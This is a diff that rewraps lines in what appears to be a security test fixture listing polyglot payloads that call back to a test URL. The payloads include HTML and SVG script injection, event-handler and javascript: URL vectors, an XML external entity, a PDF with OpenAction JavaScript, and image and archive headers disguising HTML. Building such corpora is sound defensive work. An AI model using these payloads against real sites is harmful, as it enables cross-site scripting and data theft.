@@ -19,7 +19,8 @@ const script = (at) =>
 
 const html = (at) =>
   `<!doctype html><title>pwned</title><script>${script(at)}</script>` +
-  `<img src="${at}/img" onerror="${script(at).replaceAll('"', "&quot;")}"><iframe src="${at}/frame"></iframe>` +
+  `<img src="${at}/img" onerror="${script(at).replaceAll('"', "&quot;")}">` +
+  `<iframe src="${at}/frame"></iframe>` +
   `<link rel=stylesheet href="${at}/css"><meta http-equiv=refresh content="0;url=${at}/refresh">`;
 
 const svg = (at, inside, attributes = "") =>
@@ -97,7 +98,8 @@ export const CONTENTS = [
   ["html with a base", (at) => `<base href="${at}/">${html(at)}<script src=x></script>`],
   ["html that refreshes", (at) => `<meta http-equiv=refresh content="0;url=${at}/refresh">`],
   ["html that frames", (at) => `<iframe srcdoc="<script>${script(at)}</script>"></iframe>`],
-  ["html with a form", (at) => `<form action="${at}/form"><input autofocus onfocus="${script(at)}">`],
+  ["html with a form", (at) =>
+    `<form action="${at}/form"><input autofocus onfocus="${script(at)}">`],
   ["html application", (at) => `<HTA:APPLICATION>${html(at)}`],
   ["xhtml", (at) =>
     `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>` +
@@ -126,7 +128,8 @@ export const CONTENTS = [
     svg(at, `<image xlink:href="${at}/svg-image"/><use href="${at}/use#a"/>` +
       `<style>@import url("${at}/import");</style>`)],
   ["svg that animates a link", (at) =>
-    svg(at, `<a><animate attributeName="href" values="javascript:${script(at)}"/><text>x</text></a>`)],
+    svg(at, `<a><animate attributeName="href" values="javascript:${script(at)}"/>` +
+      `<text>x</text></a>`)],
   ["svg behind a doctype", (at) =>
     `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${at}/entity">]>` +
     svg(at, `<script>${script(at)}</script><text>&x;</text>`)],
@@ -154,9 +157,10 @@ export const CONTENTS = [
   ["zip with html", (at) => join(latin1("PK\x03\x04"), html(at))],
   ["html, zipped", (at) => gzipSync(html(at))],
   ["pdf with a script", (at) =>
-    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n` +
-    `2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/AA<</O<</S/URI` +
-    `/URI(${at}/pdf)>>>>>>endobj\ntrailer<</Root 1 0 R>>`],
+    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript` +
+    `/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
+    `3 0 obj<</Type/Page/Parent 2 0 R/AA<</O<</S/URI/URI(${at}/pdf)>>>>>>endobj\n` +
+    `trailer<</Root 1 0 R>>`],
   ["pdf and html", (at) => `%PDF-1.7\n${html(at)}`],
   ["gif and html", (at) => gif(html(at))],
   ["gif and script", (at) => join(latin1("GIF89a/*"), Buffer.alloc(90), `*/=1;${script(at)}`)],
@@ -164,7 +168,8 @@ export const CONTENTS = [
   ["png and svg behind it", (at) => join(png(), svg(at, `<script>${script(at)}</script>`))],
   ["jpeg and html", (at) => jpeg(html(at))],
   ["webp and html", (at) => join(latin1("RIFF\xff\xff\0\0WEBPVP8 \xff\xff\0\0"), html(at))],
-  ["bmp and script", (at) => join(latin1("BM/*\0\0\0\0\0\0\x36\0\0\0"), html(at), `*/=1;${script(at)}`)],
+  ["bmp and script", (at) =>
+    join(latin1("BM/*\0\0\0\0\0\0\x36\0\0\0"), html(at), `*/=1;${script(at)}`)],
   ["icon and html", (at) => join(latin1("\0\0\x01\0\x01\0\x01\x01\0\0\x01\0\x20\0"), html(at))],
   ["tiff and html", (at) => join(latin1("II*\0\x08\0\0\0"), html(at))],
   ["avif and html", (at) => iso("avif", html(at))],
